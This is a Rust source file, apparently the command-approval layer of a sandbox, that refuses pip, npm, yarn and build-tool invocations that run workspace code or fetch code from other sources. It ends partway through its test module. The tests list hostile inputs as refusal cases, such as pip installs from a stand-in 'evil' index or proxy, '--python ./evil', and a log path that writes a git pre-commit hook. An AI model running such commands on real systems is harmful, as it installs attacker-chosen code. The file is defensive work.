//! Package managers, which run code the workspace holds: `pip install .` builds a local project
//! (its `setup.py` or build backend runs), and so does a requirements file, an editable, VCS,
//! URL or archive requirement; `npm`, `yarn` and `pnpm` run `package.json` scripts and install
//! scripts for most subcommands (`yarn build` is `yarn run build`); `npx`, `pnpx` and `bunx`
//! run a package's program (`node_modules/.bin`, which the workspace can write, or a
//! download); a `.yarnrc` naming `yarn-path` or plugins makes every `yarn` command run that
//! JavaScript. An allowlisted package manager passes only in forms that run none of these:
//! listing and querying, and `pip install` of requirements named for the index.
//!
//! Build tools and test runners are the same class ([`WORKSPACE_RUNNERS`]): `make` runs the
//! Makefile's recipes, `cargo build` a `build.rs`, `go generate` the commands its comments
//! name, `pytest` a `conftest.py`. Each passes only in the forms its row names as running
//! none (`--version`, `cargo locate-project`, `go list`), with the reason wording of the
//! package managers ([`runs_workspace_code`]). An interpreter given a script file is not in
//! this class: the line itself names the file it runs.

use std::path::Path;

use super::injection::Place;

/// pip subcommands that build or install distributions.
const PIP_BUILDING: &[&str] = &["install", "wheel", "download", "lock"];

/// pip subcommands that read configuration only (`pip config edit` opens an editor, `set`
/// points later installs at another source).
const PIP_CONFIG_READING: &[&str] = &["list", "get", "debug"];

/// pip's options whose value is a source to build from, with their short forms and where the
/// code they name comes from: a requirements, constraints or dependency-group file, an
/// editable project or a checkout directory of the workspace; an index or a directory of
/// archives elsewhere. optparse takes any unambiguous prefix of a long name (`--edit`,
/// `--req=r.txt`), so any prefix of one is refused, and short forms also inside a cluster.
const PIP_SOURCE_OPTIONS: &[(&str, Option<char>, SourcePlace)] = &[
    ("editable", Some('e'), SourcePlace::Workspace),
    ("requirement", Some('r'), SourcePlace::Workspace),
    ("constraint", Some('c'), SourcePlace::Workspace),
    ("build-constraint", None, SourcePlace::Workspace),
    ("group", None, SourcePlace::Workspace),
    ("src", None, SourcePlace::Workspace),
    ("find-links", Some('f'), SourcePlace::Elsewhere),
    ("index-url", Some('i'), SourcePlace::Elsewhere),
    ("extra-index-url", None, SourcePlace::Elsewhere),
];

/// Where the source named by the long option `arg` comes from, when it is a prefix of one of
/// [`PIP_SOURCE_OPTIONS`]; an abbreviation of both places (`--e`: editable, extra-index-url)
/// counts as elsewhere.
fn long_source_place(arg: &str) -> Option<SourcePlace> {
    let names: Vec<&str> = PIP_SOURCE_OPTIONS.iter().map(|(long, ..)| *long).collect();
    if !long_prefix_of(arg, &names) {
        return None;
    }
    let elsewhere: Vec<&str> = PIP_SOURCE_OPTIONS
        .iter()
        .filter(|(.., place)| *place == SourcePlace::Elsewhere)
        .map(|(long, ..)| *long)
        .collect();
    Some(if long_prefix_of(arg, &elsewhere) {
        SourcePlace::Elsewhere
    } else {
        SourcePlace::Workspace
    })
}

/// Where the source named by the first short source option of the cluster `arg` (`-r`,
/// `-qe`) comes from.
fn short_source_place(arg: &str) -> Option<SourcePlace> {
    arg[1..].chars().find_map(|letter| {
        PIP_SOURCE_OPTIONS
            .iter()
            .find(|(_, short, _)| *short == Some(letter))
            .map(|(.., place)| *place)
    })
}

/// pip's global options (read by every subcommand, wherever they stand) that run or load code
/// or let another party choose what is installed: `--python` re-runs pip under the
/// interpreter it names (pip >= 22.3); `--keyring-provider subprocess` runs a `keyring`
/// program; `--cache-dir` reads cached wheels (a `.pth` file in a wheel runs at every Python
/// start) from a directory the workspace can fill; `--cert`, `--trusted-host` and `--proxy`
/// let whoever serves the traffic hand over a source distribution, whose setup code runs;
/// `--log`/`--log-file`/`--local-log` append to any file. Refused as any prefix (optparse).
const PIP_CODE_OPTIONS: &[&str] = &[
    "python",
    "keyring-provider",
    "cache-dir",
    "cert",
    "client-cert",
    "trusted-host",
    "proxy",
    "log",
    "log-file",
    "local-log",
];

/// Requirement prefixes naming a version control checkout (`git+https://...`).
const VCS_PREFIXES: &[&str] = &["git+", "hg+", "svn+", "bzr+"];

/// File names pip builds or installs as a local archive.
const ARCHIVE_SUFFIXES: &[&str] = &[
    ".zip", ".tar", ".tar.gz", ".tgz", ".tar.bz2", ".tbz", ".tar.xz", ".txz", ".tar.lz", ".whl",
    ".egg",
];

/// Where the code a pip source names comes from, which decides the refusal's label.
#[derive(Clone, Copy, PartialEq, Debug)]
enum SourcePlace {
    /// A file or directory the workspace holds (a requirements file, a local project, an
    /// archive): no argument was injected, the call itself runs that code.
    Workspace,
    /// Another party (a URL, a checkout, an index): the argument chooses whose code runs.
    Elsewhere,
}

/// Why the requirement `arg` of a building pip subcommand is not a plain name for the index:
/// a URL, a VCS checkout, a direct reference (`name @ url`), a path, an archive, or a name an
/// existing file or directory in `cwd` has (pip installs it as a local project).
fn local_source(arg: &str, cwd: Option<&Path>) -> Option<(SourcePlace, &'static str)> {
    use SourcePlace::{Elsewhere, Workspace};
    let lower = arg.to_ascii_lowercase();
    if VCS_PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return Some((
            Elsewhere,
            "is a version control checkout: pip builds it (its setup code runs)",
        ));
    }
    if lower.contains("://") || lower.starts_with("file:") {
        return Some((Elsewhere, "is a URL: pip builds what it fetches"));
    }
    if arg.contains('@') {
        return Some((
            Elsewhere,
            "is a direct reference (`name @ url`): pip builds what it names",
        ));
    }
    if arg.contains('/') || arg.starts_with('.') || arg.starts_with('~') {
        return Some((
            Workspace,
            "is a local path: pip builds the project there (its setup code runs)",
        ));
    }
    if ARCHIVE_SUFFIXES.iter().any(|s| lower.ends_with(s)) {
        return Some((
            Workspace,
            "is an archive: pip builds or installs it from the workspace",
        ));
    }
    match cwd {
        None => Some((
            Workspace,
            "may name a local project and the working directory is unknown",
        )),
        Some(dir) if std::fs::symlink_metadata(dir.join(arg)).is_ok() => Some((
            Workspace,
            "names a file or directory of the working directory: pip builds it as a project",
        )),
        Some(_) => None,
    }
}

/// Whether `arg` is `--name` or `--name=value` with `name` a prefix of one of `options`
/// (optparse takes any unambiguous prefix).
fn long_prefix_of(arg: &str, options: &[&str]) -> bool {
    let Some(long) = arg.strip_prefix("--") else {
        return false;
    };
    let name = long.split('=').next().unwrap_or_default();
    !name.is_empty() && options.iter().any(|o| o.starts_with(name))
}

/// Refuses pip forms that run code the workspace holds or choose where code comes from:
/// `pip config` other than reading it, and in a building subcommand ([`PIP_BUILDING`]) a
/// [source option](PIP_SOURCE_OPTIONS) in any spelling or a requirement that is no plain name
/// ([`local_source`]). Options are read before `--` wherever they stand (pip permutes).
pub fn check_pip(args: &[String], cwd: Option<&Path>) -> Result<(), String> {
    let refuse = |arg: &str, why: &str| Err(format!("argument injection: `pip` `{arg}` {why}"));
    let has = |words: &[&str]| args.iter().any(|a| words.contains(&a.as_str()));
    if let Some(arg) = args
        .iter()
        .take_while(|a| *a != "--")
        .find(|a| long_prefix_of(a, PIP_CODE_OPTIONS))
    {
        return refuse(
            arg,
            "runs or loads code pip does not vouch for (another interpreter, a keyring program, a cache, a certificate or proxy, a log file)",
        );
    }
    if has(&["config"]) && !has(PIP_CONFIG_READING) {
        return refuse("config", "changes pip's configuration or opens an editor");
    }
    if !has(PIP_BUILDING) {
        return Ok(());
    }
    // A requirements file, a local project or an archive is code the workspace holds (the
    // label npm's scripts get); an index, a URL or a checkout is an argument choosing whose
    // code runs.
    // `operand`: why a requirement operand is a source (`local_source`); `None` for a source
    // option.
    const SOURCE_WHY: &str = "names a source to build from (its setup code runs)";
    let refuse_source = |arg: &str, place: SourcePlace, operand: Option<&str>| match place {
        SourcePlace::Workspace => Err(runs_workspace_code(
            &shown_call("pip", args),
            &match operand {
                None => format!("the setup code of the source to build from that `{arg}` names"),
                Some(why) => format!("the setup code of `{arg}`, which {why}"),
            },
        )),
        SourcePlace::Elsewhere => refuse(arg, operand.unwrap_or(SOURCE_WHY)),
    };
    let mut options_done = false;
    for arg in args {
        if !options_done && arg == "--" {
            options_done = true;
        } else if !options_done && arg.starts_with("--") {
            if let Some(place) = long_source_place(arg) {
                return refuse_source(arg, place, None);
            }
        } else if !options_done && arg.len() > 1 && arg.starts_with('-') {
            if let Some(place) = short_source_place(arg) {
                return refuse_source(arg, place, None);
            }
        } else if !PIP_BUILDING.contains(&arg.as_str()) {
            if let Some((place, why)) = local_source(arg, cwd) {
                return refuse_source(arg, place, Some(why));
            }
        }
    }
    Ok(())
}

/// The label of every refusal of a program running code the workspace holds (`make test`,
/// `npm test`, `cargo test`): no argument was injected, the call itself runs that code, so
/// only an approval (per call) can let it run.
pub const WORKSPACE_CODE_RULE: &str = "runs code the workspace holds";

/// The label of the refusal of a program that runs no code but writes files where the
/// workspace's configuration says (`tsc` and its `tsconfig.json`).
pub const WORKSPACE_WRITES_RULE: &str = "writes where the workspace says";

/// The refusal of a program that runs code the workspace holds: `shown` is how it was called
/// (`npm test`, `make`), `what` the code it runs. One wording for the whole class.
pub(crate) fn runs_workspace_code(shown: &str, what: &str) -> String {
    format!("{WORKSPACE_CODE_RULE}: `{shown}` may run {what} (code the workspace can write)")
}

/// A build tool or test runner that runs code the workspace holds, and the forms that run
/// none.
struct WorkspaceRunner {
    /// The names it is known by ([`variant_names`](super::names::variant_names)).
    programs: &'static [&'static str],
    /// The code it runs.
    runs: &'static str,
    /// Arguments that, all alone, make it print and exit (`--version`), reading no file of the
    /// workspace.
    info: &'static [&'static str],
    /// Subcommands (its first argument) that run none of that code.
    reading: &'static [&'static str],
    /// Options that make a reading subcommand build or run after all (`go list -toolexec`),
    /// matched with one or two dashes and with `=value`.
    running_options: &'static [&'static str],
    /// Subcommands (their first words) that run other code than [`runs`](Self::runs) says,
    /// with what they run: the reason names the right code (`cargo fmt`, `uv pip list`).
    runs_by_subcommand: &'static [(&'static str, &'static str)],
    /// The label of its refusals: [`WORKSPACE_CODE_RULE`], or [`WORKSPACE_WRITES_RULE`] for a
    /// tool that runs no code but writes where the workspace's configuration says (`tsc`).
    rule: &'static str,
}

impl WorkspaceRunner {
    /// The fields of a runner every subcommand of which runs the workspace's code (the rows
    /// give `programs`, `runs` and `info`).
    const RUNS_ALL: WorkspaceRunner = WorkspaceRunner {
        programs: &[],
        runs: "",
        info: &[],
        reading: &[],
        running_options: &[],
        runs_by_subcommand: &[],
        rule: WORKSPACE_CODE_RULE,
    };

    /// The refusal of the call shown as `shown`, running `runs`, under the row's rule.
    fn refusal(&self, shown: &str, runs: &str) -> String {
        if self.rule == WORKSPACE_CODE_RULE {
            return runs_workspace_code(shown, runs);
        }
        format!("{}: `{shown}` runs {runs}", self.rule)
    }
}

/// The build tools and test runners, one row per program. Forms marked "confirmed" were run:
/// `cargo metadata` and `cargo tree` ran the `build.rustc-wrapper` a `.cargo/config.toml`
/// names (`cargo version`, `-V`, `locate-project` did not); Debian's `mvn` script reads
/// `.mvn/jvm.config` (JVM options such as `-javaagent:`) before it looks at any argument, so
/// even `mvn -v` runs code; `make -n` still runs `+` recipes and `$(shell ...)`.
const WORKSPACE_RUNNERS: &[WorkspaceRunner] = &[
    WorkspaceRunner {
        programs: &["make", "gmake", "bmake", "pmake"],
        runs: "Makefile recipes and $(shell ...), even with -n or -q",
        info: &["-v", "--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["cargo"],
        runs: "build scripts (build.rs), procedural macros, tests and the programs .cargo/config.toml names",
        info: &["-V", "--version", "-vV", "-h", "--help", "--list"],
        reading: &["version", "locate-project"],
        running_options: &[],
        // `cargo fmt` builds nothing, but fmt is no built-in command: an `[alias] fmt = "run"`
        // in a `.cargo/config.toml` of the workspace replaces it (cargo only warns that the
        // alias shadows the external subcommand).
        runs_by_subcommand: &[(
            "fmt",
            "the command a .cargo/config.toml alias names in place of rustfmt (fmt is not built in, so `[alias] fmt = \"run\"` replaces it)",
        )],
        rule: WORKSPACE_CODE_RULE,
    },
    WorkspaceRunner {
        // Attack review 3's 2: `rust-analyzer analysis-stats .` loads the workspace as the
        // editor does, running build scripts and procedural macros; so do `diagnostics`,
        // `ssr`, `search`, `scip`, `lsif`, `run-tests`, `prime-caches`, `unresolved-references`
        // and no subcommand (the language server). `parse`, `symbols` and `highlight` read
        // Rust text from stdin and load no workspace.
        // rls (the language server before it; `rls --cli` loads the workspace the same way).
        programs: &["rust-analyzer", "rls"],
        runs: "build scripts (build.rs) and procedural macros of the workspace it loads, as cargo build does",
        info: &["--version", "-V", "--help", "-h", "--print-config-schema"],
        reading: &["parse", "symbols", "highlight"],
        running_options: &[],
        runs_by_subcommand: &[],
        rule: WORKSPACE_CODE_RULE,
    },
    WorkspaceRunner {
        programs: &["go"],
        runs: "the packages it builds, their tests, cgo and the commands go:generate names",
        info: &["-h", "--help"],
        reading: &["version", "env", "help", "list", "doc", "fmt", "mod"],
        running_options: &["toolexec", "exec", "export", "compiled", "w", "u", "vettool"],
        runs_by_subcommand: &[],
        rule: WORKSPACE_CODE_RULE,
    },
    WorkspaceRunner {
        programs: &["mvn", "mvnw", "gradle", "gradlew", "sbt", "bazel", "bazelisk", "lein"],
        runs: "the build's plugins and scripts, and JVM options the project sets (.mvn/jvm.config, gradle.properties, .jvmopts, .bazelrc), read on every run",
        info: &[],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["ant"],
        runs: "build.xml tasks",
        info: &["-version", "-h", "-help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["pytest", "py.test", "tox", "nox", "mix"],
        runs: "conftest.py, tox.ini, noxfile.py or mix.exs and the tests (loaded for --version too)",
        info: &[],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["rake", "just", "ninja", "samu", "scons", "ctest"],
        runs: "the recipes, tasks or tests of its build file (Rakefile, justfile, build.ninja, SConstruct)",
        info: &["--version", "-V", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["cmake", "meson"],
        runs: "CMakeLists.txt or meson.build (execute_process, run_command) and the build they drive",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["bundle", "bundler"],
        runs: "the Gemfile (Ruby code) and the programs bundle exec runs",
        info: &["--version", "-v"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["dotnet"],
        runs: "the project's MSBuild targets and tasks",
        info: &["--version", "--info", "--list-sdks", "--list-runtimes", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["swift"],
        runs: "Package.swift (Swift code run by every package command) and the build",
        info: &["--version", "-version"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["zig"],
        runs: "build.zig and the code zig run and zig test build",
        info: &["-h", "--help"],
        reading: &["version", "env", "fmt", "targets", "help"],
        running_options: &[],
        runs_by_subcommand: &[],
        rule: WORKSPACE_CODE_RULE,
    },
    WorkspaceRunner {
        // Attack review 2, repro 14: `dpkg-buildpackage -b -us -uc -d` ran `debian/rules`.
        programs: &["dpkg-buildpackage", "debuild", "pdebuild", "gbp", "sbuild", "dh"],
        runs: "debian/rules (a makefile) and the package's build",
        info: &["--version", "--help", "-h"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        // Cargo's subcommand programs (`cargo-nextest nextest run`, `cargo-make`, ...) drive
        // cargo's builds ([`CARGO_SUBCOMMAND_PREFIX`]); those that build nothing read the
        // workspace through `cargo metadata` (`cargo-fmt` finds its targets so, `cargo-deny`,
        // `cargo-outdated`), which runs the `build.rustc-wrapper` a `.cargo/config.toml` names.
        // Only their version and help options pass, also as cargo calls them
        // (`cargo-clippy clippy --version`).
        programs: &[CARGO_SUBCOMMAND_PREFIX],
        runs: "cargo's builds (build scripts, procedural macros) and tests, or `cargo metadata`, which runs the build.rustc-wrapper a .cargo/config.toml names",
        info: &["--version", "-V", "--help", "-h"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["poetry", "pdm", "hatch", "uv", "pipenv", "rye", "composer", "cabal", "stack", "dune", "nx", "turbo", "lerna"],
        runs: "the project's scripts, build backend or build of local packages",
        info: &["--version", "-V", "-h", "--help"],
        reading: &[],
        running_options: &[],
        // `uv pip list` (freeze, show) builds nothing but runs the environment's interpreter to
        // read its version and markers: `.venv/bin/python` of the working directory or above,
        // or the one `.python-version` names, files the workspace can replace.
        runs_by_subcommand: &[(
            "pip",
            "the Python interpreter of the environment it finds (.venv in the working directory or above, or the one .python-version names), run to read its version and markers",
        )],
        rule: WORKSPACE_CODE_RULE,
    },
    WorkspaceRunner {
        // New-user review 3, item 4 (repro 20): these five groups were approved when allowlisted,
        // and each loads code the workspace holds on every run but --version and --help.
        programs: &["jest", "vitest", "mocha", "ava", "jasmine", "karma", "playwright", "cypress", "nyc"],
        runs: "its configuration (jest.config.js, vitest.config.ts, .mocharc.js, playwright.config.ts, ...), its setup files and the tests",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["webpack", "webpack-cli", "vite", "next", "nuxt", "nuxi", "astro", "rollup", "parcel", "gulp", "grunt", "babel", "tsup"],
        runs: "its configuration (webpack.config.js, vite.config.ts, next.config.js, rollup.config.mjs, gulpfile.js, babel.config.js, .parcelrc, ...) and the plugins it names",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["eslint", "prettier", "stylelint"],
        runs: "its configuration (eslint.config.js, prettier.config.js, .stylelintrc.js) and the plugins it names (a .prettierrc's plugins too)",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        // pylint and mypy read `--version` before their configuration.
        programs: &["pylint", "mypy", "dmypy", "flake8"],
        runs: "the init-hook and plugins its configuration names (.pylintrc, mypy.ini, setup.cfg, pyproject.toml, flake8's local-plugins)",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["pre-commit", "prek"],
        runs: "the local hooks .pre-commit-config.yaml names (repo: local, any command)",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        programs: &["phpunit", "rspec", "cucumber", "behave", "buck", "buck2", "pants"],
        runs: "its bootstrap or build files (phpunit.xml, .rspec, spec_helper.rb, BUCK, BUILD, pants.toml) and the tests",
        info: &["--version", "-h", "--help"],
        ..WorkspaceRunner::RUNS_ALL
    },
    WorkspaceRunner {
        // tsc runs no code (tsconfig.json plugins load in the editor's language service only),
        // but the workspace's tsconfig.json says where it writes: `outFile` any path (a shell
        // startup file, a hook), and with `incremental` a `tsBuildInfoFile` even under
        // `--noEmit`.
        programs: &["tsc"],
        runs: "no code but writes where the workspace's tsconfig.json says (outDir, outFile and, even with --noEmit, tsBuildInfoFile: any path)",
        info: &["--version", "-v", "-h", "--help"],
        reading: &[],
        running_options: &[],
        runs_by_subcommand: &[],
        rule: WORKSPACE_WRITES_RULE,
    },
];

/// The names of cargo's subcommand programs start with this (`cargo-nextest`, `cargo-make`):
/// one row stands for all of them.
const CARGO_SUBCOMMAND_PREFIX: &str = "cargo-";

/// Whether the program `name` is one of `programs` (a [`CARGO_SUBCOMMAND_PREFIX`] entry
/// standing for every name it starts).
fn row_names(programs: &[&str], name: &str) -> bool {
    programs.iter().any(|program| {
        *program == name
            || (*program == CARGO_SUBCOMMAND_PREFIX
                && name.len() > program.len()
                && name.starts_with(program))
    })
}

/// Whether the option `arg` (`-x`, `--x`, `-x=v`, `--x=v`) is one of `names`.
fn option_named(arg: &str, names: &[&str]) -> bool {
    let Some(rest) = arg.strip_prefix('-') else {
        return false;
    };
    let rest = rest.strip_prefix('-').unwrap_or(rest);
    let name = rest.split_once('=').map_or(rest, |(n, _)| n);
    names.contains(&name)
}

/// How a refused call is shown: the program and its first argument (at most 64 characters).
pub(crate) fn shown_call(name: &str, args: &[String]) -> String {
    match args.first() {
        Some(first) => format!("{name} {}", first.chars().take(64).collect::<String>()),
        None => name.to_string(),
    }
}

/// Refuses a build tool or test runner ([`WORKSPACE_RUNNERS`]) called in a form that runs code
/// the workspace holds: anything but its info options alone, or a reading subcommand (first,
/// after no option) without an option that makes it build.
pub fn check_workspace_runner(name: &str, args: &[String]) -> Result<(), String> {
    let Some(row) = WORKSPACE_RUNNERS
        .iter()
        .find(|r| row_names(r.programs, name))
    else {
        return Ok(());
    };
    // rustup's cargo and rust-analyzer take the toolchain first (`cargo +stable --version`); the toolchain
    // itself is checked by [`rustup`](super::rustup).
    // cargo runs `cargo-nextest nextest run` for `cargo nextest run`: the repeated name is
    // no argument of the program.
    let args = match args.split_first() {
        Some((first, rest))
            if matches!(name, "cargo" | "rust-analyzer") && first.starts_with('+') =>
        {
            rest
        }
        Some((first, rest)) if name.strip_prefix(CARGO_SUBCOMMAND_PREFIX) == Some(first) => rest,
        _ => args,
    };
    if !args.is_empty() && args.iter().all(|a| row.info.contains(&a.as_str())) {
        return Ok(());
    }
    if let Some(sub) = args.first().filter(|a| row.reading.contains(&a.as_str())) {
        return match args[1..]
            .iter()
            .take_while(|a| *a != "--")
            .find(|a| option_named(a, row.running_options))
        {
            Some(option) => Err(row.refusal(&format!("{name} {sub} {option}"), row.runs)),
            None => Ok(()),
        };
    }
    let shown = shown_call(name, args);
    let runs = args
        .first()
        .and_then(|first| row.runs_by_subcommand.iter().find(|(sub, _)| sub == first))
        .map_or(row.runs, |(_, runs)| runs);
    Err(row.refusal(&shown, runs))
}

/// What `npx`, `pnpx`, `bunx` and `bun x` run: a package's program, which the workspace holds
/// or the registry serves. No argument is injected: the call runs it.
pub(crate) const PACKAGE_PROGRAM: &str =
    "a package's program (from node_modules/.bin, which the workspace can write, or downloaded)";

/// Subcommands of each Node package manager that run no `package.json` script, no install
/// script and no configured program: listing, querying and auditing. Every other one, a
/// script's name (`yarn build`) and no subcommand at all (`yarn` installs) runs scripts.
const SCRIPTLESS: &[(&str, &[&str])] = &[
    (
        "npm",
        &[
            "ls",
            "list",
            "la",
            "ll",
            "view",
            "v",
            "info",
            "show",
            "outdated",
            "search",
            "s",
            "se",
            "find",
            "why",
            "explain",
            "audit",
            "fund",
            "root",
            "prefix",
            "whoami",
            "ping",
            "query",
            "sbom",
            "help-search",
            "get",
            "config",
            "pkg",
        ],
    ),
    (
        "pnpm",
        &[
            "list", "ls", "ll", "la", "why", "outdated", "audit", "licenses", "root", "view",
            "info", "show", "config",
        ],
    ),
    (
        "yarn",
        &["info", "list", "why", "outdated", "licenses", "config"],
    ),
];

/// Words that turn a scriptless subcommand into one that installs, edits or writes
/// (`npm audit fix`, `pnpm audit --fix`, `npm config edit`, `npm pkg set`).
const WRITING_WORDS: &[&str] = &["fix", "--fix", "edit", "set", "delete", "unset", "add"];

/// Options the managers read before the subcommand that take no value; any other option there
/// must carry its value after `=`, or the next word could be its value (`npm --prefix ls
/// install` installs).
const VALUELESS_OPTIONS: &[&str] = &[
    "-s",
    "--silent",
    "-q",
    "--quiet",
    "-g",
    "--global",
    "--json",
    "-l",
    "--long",
    "-p",
    "--parseable",
    "-a",
    "--all",
    "-r",
    "--recursive",
    "--no-color",
    "-v",
    "--version",
    "-h",
    "--help",
    "--offline",
];

/// Configuration files a manager reads from the working directory and every directory above
/// it, and the keys there that make every command run a program: a `yarn-path`/`yarnPath`
/// release or `plugins` (yarn), an `onload-script` (npm before 7).
const RC_FILES: &[(&str, &[&str], &[&str])] = &[
    (
        "yarn",
        &[".yarnrc", ".yarnrc.yml"],
        &["yarn-path", "yarnpath", "plugins"],
    ),
    ("npm", &[".npmrc"], &["onload-script"]),
];

/// The most bytes of a configuration file read; a longer one is refused unread.
const MAX_RC_BYTES: u64 = 1024 * 1024;

/// Why a configuration file in `cwd` or above it makes every command of `name` run a program.
fn rc_runs_code(name: &str, cwd: Option<&Path>) -> Option<String> {
    let (_, files, keys) = RC_FILES.iter().find(|(n, _, _)| *n == name)?;
    let Some(cwd) = cwd else {
        return Some(format!(
            "`{name}` reads its configuration from the working directory, which is unknown"
        ));
    };
    for dir in cwd.ancestors() {
        for file in *files {
            let path = dir.join(file);
            let Ok(meta) = std::fs::metadata(&path) else {
                continue;
            };
            if meta.len() > MAX_RC_BYTES {
                return Some(format!(
                    "`{}` is over {MAX_RC_BYTES} bytes and cannot be checked",
                    path.display()
                ));
            }
            let text = std::fs::read(&path).unwrap_or_default();
            let text = String::from_utf8_lossy(&text).to_ascii_lowercase();
            if let Some(key) = keys.iter().find(|k| text.contains(*k)) {
                return Some(format!(
                    "`{}` sets `{key}`, which makes every `{name}` command run that program",
                    path.display()
                ));
            }
        }
    }
    None
}

/// Refuses a Node package manager's form that runs code: `npx`, `pnpx` and `bunx` always
/// (they run a package's program) except for `--version`/`--help`; for `npm`, `pnpm` and
/// `yarn`, a subcommand outside [`SCRIPTLESS`] (or none, for yarn), a [writing
/// word](WRITING_WORDS) after it, an option before it that may take the next word, and a
/// configuration file that runs a program for every command ([`RC_FILES`]).
pub fn check_node_package_manager(name: &str, args: &[String], place: Place) -> Result<(), String> {
    let refuse = |why: String| Err(format!("argument injection: {why}"));
    let only_info = !args.is_empty()
        && args
            .iter()
            .all(|a| matches!(a.as_str(), "-v" | "--version" | "-h" | "--help"));
    if matches!(name, "npx" | "pnpx" | "bunx") {
        if only_info {
            return Ok(());
        }
        return Err(runs_workspace_code(
            &shown_call(name, args),
            PACKAGE_PROGRAM,
        ));
    }
    if let Some(why) = rc_runs_code(name, place.cwd) {
        return refuse(why);
    }
    let Some((_, scriptless)) = SCRIPTLESS.iter().find(|(n, _)| *n == name) else {
        return Ok(());
    };
    let Some(at) = args.iter().position(|a| !a.starts_with('-')) else {
        if name == "yarn" && !only_info {
            return refuse("`yarn` without a subcommand installs, running install scripts".into());
        }
        return Ok(());
    };
    if let Some(option) = args[..at]
        .iter()
        .find(|a| !a.contains('=') && !VALUELESS_OPTIONS.contains(&a.as_str()))
    {
        return refuse(format!(
            "`{name} {option}` before the subcommand may take the next word as its value (write `{option}=value`)"
        ));
    }
    let sub = args[at].as_str();
    if !scriptless.contains(&sub) {
        return Err(runs_workspace_code(
            &format!("{name} {sub}"),
            "package.json scripts or install scripts",
        ));
    }
    if let Some(word) = args[at + 1..]
        .iter()
        .find(|a| WRITING_WORDS.contains(&a.as_str()) || a.starts_with("--fix="))
    {
        return refuse(format!(
            "`{name} {sub} {word}` installs, edits or writes (it may run scripts or an editor)"
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::shell::tests::{argv, Sandbox};

    #[test]
    fn pip_builds_nothing_the_workspace_holds() {
        let sandbox = Sandbox::new("pip");
        let ws = sandbox.dir("ws");
        sandbox.dir("ws/mypkg");
        sandbox.file("ws/requirements.txt", 0o644);
        let cases: &[(&str, bool)] = &[
            ("install requests", true),
            ("install -U requests==2.31.0 'urllib3>=2'", true),
            ("install --upgrade --user requests[socks]", true),
            ("-q install requests", true),
            ("list", true),
            ("list -e", true),
            ("show requests", true),
            ("freeze", true),
            ("config list", true),
            ("install .", false),
            ("install ./mypkg", false),
            ("install mypkg", false),
            ("install requirements.txt", false),
            ("install /tmp/x", false),
            ("install ~/x", false),
            ("install -e .", false),
            ("install -Ue .", false),
            ("install --editable=.", false),
            ("install --edit .", false),
            ("install -r requirements.txt", false),
            ("install -rrequirements.txt", false),
            ("install --requirement=r.txt", false),
            ("install --req r.txt", false),
            ("install -c c.txt requests", false),
            ("install --group dev", false),
            ("install git+https://example.com/x.git", false),
            ("install hg+https://example.com/x", false),
            ("install https://example.com/x.tar.gz", false),
            ("install x@https://example.com/x.zip", false),
            ("install file:///tmp/x", false),
            ("install x.tar.gz", false),
            ("install x-1.0-py3-none-any.whl", false),
            ("install -f dist requests", false),
            ("install --find-links=dist requests", false),
            ("install -i http://evil/simple requests", false),
            ("install --index-url=http://evil/simple requests", false),
            (
                "install --extra-index-url http://evil/simple requests",
                false,
            ),
            ("install --extra http://evil/simple requests", false),
            ("wheel .", false),
            ("download .", false),
            ("install -- .", false),
            ("install requests .", false),
            ("config edit", false),
            ("config set global.index-url http://evil", false),
            // Issue 19 attack 5: global options, read by every subcommand in any spelling.
            ("--python ./evil list", false),
            ("--python=./evil list", false),
            ("list --python ./evil", false),
            ("--py ./evil list", false),
            ("--pyth=./evil freeze", false),
            ("install --python=./evil requests", false),
            ("--keyring-provider subprocess install requests", false),
            ("--keyring=subprocess list", false),
            ("--cache-dir ./c install requests", false),
            (
                "--cert ./ca.pem --proxy http://evil:8080 install requests",
                false,
            ),
            ("--trusted-host pypi.org install requests", false),
            ("install --proxy=http://evil:8080 requests", false),
            ("--log .git/hooks/pre-commit list", false),
            ("--log-file=x list", false),
            ("--local-log x list", false),
            // Controls: options that load nothing.
            ("--isolated list", true),
            ("--no-input --disable-pip-version-check -q list", true),
            ("--no-cache-dir install requests", true),
            ("--pre install requests", true),
            ("list -- --python", true),
        ];
        for (args, want) in cases {
            let args: Vec<String> = argv(args)
                .into_iter()
                .map(|a| a.trim_matches('\'').to_string())
                .collect();
            let got = check_pip(&args, Some(&ws));
            assert_eq!(got.is_ok(), *want, "pip {args:?}: {got:?}");
        }
        // Without a working directory a name may be a local project.
        assert!(check_pip(&argv("install requests"), None).is_err());
    }

    /// A requirements file, a local project or an archive is code the workspace holds and is
    /// labelled so (user review r10 #9 read `pip install -r requirements.txt` called an
    /// argument injection); an index, a URL or a checkout chooses another party's code.
    #[test]
    fn pip_refusals_say_whose_code_runs() {
        let sandbox = Sandbox::new("pip-labels");
        let ws = sandbox.dir("ws");
        sandbox.dir("ws/mypkg");
        let cases: &[(&str, &str)] = &[
            ("install -r requirements.txt", WORKSPACE_CODE_RULE),
